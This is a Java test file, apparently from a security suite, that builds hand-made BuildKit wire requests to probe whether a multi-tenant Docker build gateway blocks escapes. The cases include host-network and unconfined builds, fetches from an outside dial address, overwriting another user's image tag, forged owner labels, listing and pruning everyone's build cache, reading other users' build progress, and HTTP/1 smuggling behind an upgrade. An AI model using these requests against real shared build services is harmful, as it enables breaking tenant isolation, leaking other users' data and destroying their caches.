package dev.cofferdam.gate.escape;

import static dev.cofferdam.gate.escape.Effect.has;

import dev.cofferdam.engine.buildkit.Control;
import dev.cofferdam.engine.buildkit.Solve;
import dev.cofferdam.engine.proto.Field;
import dev.cofferdam.engine.proto.Layout;
import dev.cofferdam.engine.proto.Message;
import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.Map;

/** What no real client sends: BuildKit's own messages, made by hand. */
final class BuildKitWireAttacks {
  private static final Effect BUILT = has("/v1.44/images/${name}/json", "/Id", "sha256");
  private static final Effect DIALLED = new Effect.Dialled();

  private static final Layout EVENTS = Layout.named("BuildHistoryRequest");
  private static final Field<Boolean> EARLY_EXIT = EVENTS.bool(3, "EarlyExit");

  private BuildKitWireAttacks() {}

  static void addTo(List<BuildKitAttack> all) {
    graphs(all);
    frontends(all);
    messages(all);
    others(all);
  }

  private static void graphs(List<BuildKitAttack> all) {
    all.add(
        BuildKitAttack.of(
            "graph: an image of its own making", BUILT, target -> graph(target, box(target))));
    all.add(
        BuildKitAttack.of(
            "graph: another's image",
            BUILT,
            target -> graph(target, Llb.image(target.fill("${bobImage}")))));
    all.add(
        BuildKitAttack.of(
            "graph: a command on the host's network",
            BUILT,
            target ->
                target.solve(
                    target
                        .solve()
                        .with(Solve.ENTITLEMENTS, List.of("network.host"))
                        .with(Solve.DEFINITION, box(target).run(1, 0, "/bin/true").definition()))));
    all.add(
        BuildKitAttack.of(
                "graph: a command without confinement",
                BUILT,
                target ->
                    target.solve(
                        target
                            .solve()
                            .with(Solve.ENTITLEMENTS, List.of("security.insecure"))
                            .with(
                                Solve.DEFINITION, box(target).run(0, 1, "/bin/true").definition())))
            .elsewhere());
    all.add(
        BuildKitAttack.of(
            "graph: a URL",
            DIALLED,
            target -> graph(target, Llb.source(target.fill("http://${dial}/x"), Map.of()))));
    all.add(
        BuildKitAttack.of(
                "graph: a repository",
                DIALLED,
                target ->
                    graph(
                        target,
                        Llb.source(
                            "git://esc/x.git",
                            Map.of("git.fullurl", target.fill("http://${dial}/x.git")))))
            .elsewhere());
    all.add(
        BuildKitAttack.of(
            "graph: over the host's tag",
            new Effect.Changed("host.image"),
            target ->
                target.solve(
                    target
                        .solve()
                        .with(Solve.DEFINITION, box(target).definition())
                        .with(
                            Solve.EXPORTER_ATTRS,
                            Map.of(
                                "name", target.fill("docker.io/library/${hostImage}:latest"))))));
    all.add(
        BuildKitAttack.of(
                "graph: a configuration of its own, another's label in it",
                has("/v1.44/images/${name}/json", "/Config/Labels", "bob"),
                target ->
                    target.solve(
                        target
                            .solve()
                            .with(Solve.DEFINITION, box(target).definition())
                            .with(
                                Solve.EXPORTER_ATTRS,
                                Map.of(
                                    "name",
                                    target.fill("docker.io/library/${name}:latest"),
                                    "containerimage.config",
                                    "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":"
                                        + "{\"Labels\":{\"dev.cofferdam.image-owner\":\"bob\"}},"
                                        + "\"rootfs\":{\"type\":\"layers\"}}"))))
            .elsewhere());
  }

  private static void frontends(List<BuildKitAttack> all) {
    all.add(
        BuildKitAttack.of(
                "inputs: a Dockerfile in a graph that adds a URL",
                DIALLED,
                target ->
                    target.solve(target.dockerfile("FROM scratch\nADD http://${dial}/x /x\n")))
            .elsewhere());
    all.add(
        BuildKitAttack.of(
                "inputs: a Dockerfile in a graph, from another's image",
                BUILT,
                target -> target.solve(target.dockerfile("FROM ${bobImage}\nENV A=b\n")))
            .elsewhere());
    all.add(
        BuildKitAttack.of(
            "a frontend out of any registry",
            DIALLED,
            target ->
                target.solve(
                    target
                        .solve()
                        .with(Solve.FRONTEND, "gateway.v0")
                        .with(
                            Solve.FRONTEND_ATTRS,
                            Map.of("source", target.fill("${dial}/frontend:1"))))));
    all.add(
        BuildKitAttack.of(
            "a context at any address",
            DIALLED,
            target -> context(target, "http://${dial}/context.tar")));
    all.add(
        BuildKitAttack.of(
                "a context in any repository",
                DIALLED,
                target -> context(target, "http://${dial}/context.git#main"))
            .elsewhere());
  }

  private static String context(BuildKitTarget target, String address) throws Exception {
    return target.solve(
        target
            .solve()
            .with(Solve.FRONTEND, "dockerfile.v0")
            .with(Solve.FRONTEND_ATTRS, Map.of("context", target.fill(address))));
  }

  private static void messages(List<BuildKitAttack> all) {
    all.add(
        BuildKitAttack.of(
            "message: a field that nobody knows",
            BUILT,
            target ->
                target.call(
                    "Solve",
                    joined(
                        target.solve().with(Solve.DEFINITION, box(target).definition()).write(),
                        new byte[] {(byte) 0x9a, 0x06, 1, 'x'}))));
    all.add(
        BuildKitAttack.of(
            "message: the frontend given twice, then a graph",
            BUILT,
            target ->
                target.call(
                    "Solve",
                    joined(
                        target.solve().with(Solve.FRONTEND, "dockerfile.v0").write(),
                        new byte[] {0x32, 0},
                        Solve.LAYOUT
                            .empty()
                            .with(Solve.DEFINITION, box(target).definition())
                            .write()))));
  }

  private static void others(List<BuildKitAttack> all) {
    all.add(
        BuildKitAttack.of(
            "everybody's build cache listed",
            new Effect.Leaked("${secret}"),
            target -> target.call("DiskUsage", new byte[0])));
    all.add(
        BuildKitAttack.of(
                "everybody's build cache removed",
                new Effect.Has("/v1.44/system/df", "/BuildCache", cache -> cache.size() == 0),
                target -> target.call("Prune", new byte[] {0x10, 1}))
            .harmful());
    all.add(
        BuildKitAttack.of(
            "everybody's builds listed",
            new Effect.Leaked("${secret}"),
            target ->
                target.call("ListenBuildHistory", EVENTS.empty().with(EARLY_EXIT, true).write())));
    all.add(
        BuildKitAttack.of(
            "the progress of another's build",
            new Effect.Leaked("${secret}"),
            target ->
                target.call(
                    "Status",
                    Control.Status.LAYOUT
                        .empty()
                        .with(Control.Status.REF, target.fill("${hostRef}"))
                        .write())));
    Effect listed = new Effect.Leaked("${victimName}");
    all.add(
        BuildKitAttack.of("HTTP/1 behind an upgrade", listed, RawUpgrade::thenHttp1).elsewhere());
    all.add(
        BuildKitAttack.of("HTTP/1 behind broken frames", listed, RawUpgrade::brokenFrames)
            .elsewhere());
    all.add(
        BuildKitAttack.of("an upgrade where there is none", listed, RawUpgrade::elsewhere)
            .elsewhere());
    all.add(
        BuildKitAttack.of(
            "another's session",
            new Effect.Leaked("reached another's session"),
            ForeignSession::use));
  }

  private static Llb box(BuildKitTarget target) {
    return Llb.image(target.fill("${image}"));
  }

  private static String graph(BuildKitTarget target, Llb graph) throws Exception {
    Message request = target.solve().with(Solve.DEFINITION, graph.definition());
    return target.solve(request);
  }

  private static byte[] joined(byte[]... parts) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }
}
